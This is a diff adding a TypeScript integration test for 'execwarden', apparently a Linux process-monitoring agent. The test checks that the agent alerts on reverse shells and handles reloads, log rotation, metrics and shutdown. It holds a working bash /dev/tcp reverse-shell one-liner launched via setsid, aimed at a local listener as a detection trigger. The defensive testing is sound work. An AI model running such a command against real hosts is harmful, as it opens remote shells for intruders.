@@ -1,0 +1,165 @@
+/**
+ * `execwarden run` as users run it: the built CLI in its own process, on the live proc connector,
+ * with a config file, a file output and metrics. It must alert on a setsid reverse shell, keep its
+ * rules when a reload finds errors, take new rules on a good reload, reopen its file after a
+ * rotation, and exit 0 after a drain on SIGTERM.
+ */
+import { spawn, type ChildProcess } from 'node:child_process';
+import { cpSync, existsSync, mkdtempSync, readFileSync, renameSync, rmSync, statSync, unlinkSync, writeFileSync } from 'node:fs';
+import { createServer, type AddressInfo, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { describeAsRoot } from '../systemd/require-root.js';
+
+const ROOT = resolve(import.meta.dirname, '../..');
+const SEED_RULE = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
+const PROBE_RULE = '6a0d7f3e-2b4c-4e8a-9f1d-3c5b7a9e0d21';
+
+function runShell(script: string): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore', timeout: 10_000 });
+    child.once('error', reject);
+    child.once('exit', () => resolve());
+  });
+}
+
+async function freePort(): Promise<number> {
+  const server = createServer();
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  const port = (server.address() as AddressInfo).port;
+  await new Promise<void>((r) => server.close(() => r()));
+  return port;
+}
+
+async function waitFor<T>(what: string, probe: () => T | undefined | null | false, timeoutMs = 10_000, detail?: () => string): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const value = probe();
+    if (value) return value;
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}${detail ? `: ${detail()}` : ''}`);
+    await new Promise((r) => setTimeout(r, 50));
+  }
+}
+
+describeAsRoot('execwarden run (live, as its own process)', () => {
+  let dir: string;
+  let agent: ChildProcess;
+  let log = '';
+  let listener: Server;
+  let listenerPort: number;
+  let metricsPort: number;
+  const alertsFile = (): string => join(dir, 'alerts.ndjson');
+
+  const alerts = (): Record<string, unknown>[] =>
+    existsSync(alertsFile())
+      ? readFileSync(alertsFile(), 'utf8')
+          .split('\n')
+          .filter(Boolean)
+          .map((line) => JSON.parse(line) as Record<string, unknown>)
+      : [];
+  const alertFor = (ruleId: string, marker: string) => (): Record<string, unknown> | undefined =>
+    alerts().find((a) => (a.rule as { id: string }).id === ruleId && String((a.process as { command_line?: string })?.command_line).includes(marker));
+
+  /**
+   * From a shell that stays the parent (a lone `bash -c 'setsid …'` would exec setsid in place),
+   * asynchronously, since the listener answering the shell lives in this process.
+   */
+  function reverseShell(marker: string): Promise<void> {
+    const inner = `bash -i >& /dev/tcp/127.0.0.1/${listenerPort} 0>&1 #${marker}`;
+    return runShell(`setsid bash -c '${inner}'; true`);
+  }
+
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'execwarden-run-'));
+    cpSync(join(ROOT, 'rules'), join(dir, 'rules'), { recursive: true });
+    metricsPort = await freePort();
+    writeFileSync(
+      join(dir, 'config.toml'),
+      `[rules]\npaths = ["${join(dir, 'rules')}"]\n[alerts]\ndedup_window_seconds = 1\n[metrics]\nlisten = "127.0.0.1:${metricsPort}"\n[outputs.file]\npath = "${alertsFile()}"\n`,
+    );
+    // The simulated shell reads 'exit' and leaves at once: nothing stays running.
+    listener = createServer((socket) => socket.end('exit\n'));
+    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
+    listenerPort = (listener.address() as AddressInfo).port;
+    agent = spawn(process.execPath, [join(ROOT, 'bin/execwarden.js'), 'run', '--config', join(dir, 'config.toml')], {
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    agent.stderr!.on('data', (chunk: Buffer) => (log += chunk.toString()));
+    await waitFor('start-up', () => log.includes('execwarden started') || agent.exitCode !== null, 20_000);
+    if (agent.exitCode !== null) throw new Error(`agent exited at start-up: ${log}`);
+  }, 30_000);
+
+  afterAll(async () => {
+    if (agent && agent.exitCode === null) agent.kill('SIGKILL');
+    listener?.close();
+    if (dir) rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('logs its start-up facts', () => {
+    const started = log.split('\n').map((line) => (line ? (JSON.parse(line) as Record<string, unknown>) : null)).find((e) => e?.msg && String(e.msg).startsWith('execwarden started'))!;
+    expect(started.rules).toBe(7);
+    expect(started.outputs).toEqual(['file']);
+    expect(started.realtime).toBe(true);
+    expect(started.capabilities).toEqual(expect.arrayContaining(['CAP_NET_ADMIN', 'CAP_SYS_PTRACE']));
+    expect(Number(started.receiveBufferBytes)).toBeGreaterThanOrEqual(8 * 1024 * 1024);
+  });
+
+  it('alerts on a setsid reverse shell launched from a shell, into a 0600 file', async () => {
+    await reverseShell('run-live-1');
+    const alert = await waitFor('the seed alert', alertFor(SEED_RULE, 'run-live-1'), 10_000, () => JSON.stringify(alerts().map((a) => [a.rule, (a.process as Record<string, unknown>)?.command_line])));
+    expect((alert.event as { kind: string }).kind).toBe('alert');
+    expect((alert.process as { name: string }).name).toBe('setsid');
+    expect(((alert.process as { parent: { name: string } }).parent).name).toBe('bash');
+    expect((alert.rule as { name: string }).name).toBe('Potential Reverse Shell via Background Process');
+    expect(statSync(alertsFile()).mode & 0o777).toBe(0o600);
+  });
+
+  it('serves metrics with the rule match counted', async () => {
+    const text = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
+    const match = new RegExp(`execwarden_rule_matches_total\\{rule_id="${SEED_RULE}",[^}]*\\} (\\d+)`).exec(text);
+    expect(Number(match?.[1])).toBeGreaterThanOrEqual(1);
+    expect(text).toMatch(/execwarden_events_lost_total\{cause="overflow"\} 0/);
+    expect(text).toMatch(/execwarden_output_written_total\{output="file"\} [1-9]/);
+  });
+
+  it('keeps its rules when a reload finds a broken rule file, and still alerts', async () => {
+    writeFileSync(join(dir, 'rules', 'broken.toml'), '[metadata]\ncreation_date = "2026/01/01"\n[rule]\nname = "broken"\nquery = """process where process.name == """\n');
+    agent.kill('SIGHUP');
+    await waitFor('the refused reload', () => log.includes('reload refused'));
+    expect(log).toMatch(/broken\.toml:\d+:\d+/);
+    await reverseShell('run-live-2');
+    await waitFor('the seed alert after a refused reload', alertFor(SEED_RULE, 'run-live-2'));
+  });
+
+  it('takes new rules on a good reload', async () => {
+    unlinkSync(join(dir, 'rules', 'broken.toml'));
+    const seed = readFileSync(join(ROOT, 'rules/execution_reverse_shell_via_background_process.toml'), 'utf8');
+    const probe = seed
+      .replace(SEED_RULE, PROBE_RULE)
+      .replace('name = "Potential Reverse Shell via Background Process"', 'name = "Reload probe"')
+      .replace(/query = '''[\s\S]*?'''/, `query = '''\nprocess where event.action == "exec" and process.args : "*execwarden-reload-probe*"\n'''`);
+    writeFileSync(join(dir, 'rules', 'probe.toml'), probe);
+    agent.kill('SIGHUP');
+    await waitFor('the reload', () => log.includes('rules reloaded: 8 rules'));
+    await runShell('/bin/echo execwarden-reload-probe > /dev/null');
+    await waitFor('the probe alert', alertFor(PROBE_RULE, 'execwarden-reload-probe'));
+  });
+
+  it('reopens its file after rotation (logrotate: rename, then SIGHUP)', async () => {
+    renameSync(alertsFile(), `${alertsFile()}.1`);
+    agent.kill('SIGHUP');
+    await waitFor('the reopened file', () => existsSync(alertsFile()));
+    await reverseShell('run-live-3');
+    await waitFor('the seed alert in the new file', alertFor(SEED_RULE, 'run-live-3'));
+    expect(readFileSync(`${alertsFile()}.1`, 'utf8')).toContain('run-live-1');
+    expect(readFileSync(alertsFile(), 'utf8')).not.toContain('run-live-1');
+  });
+
+  it('drains and exits 0 on SIGTERM', async () => {
+    const exited = new Promise<number | null>((r) => agent.once('exit', (code) => r(code)));
+    agent.kill('SIGTERM');
+    expect(await exited).toBe(0);
+    expect(log).toContain('execwarden stopped');
+  });
+});
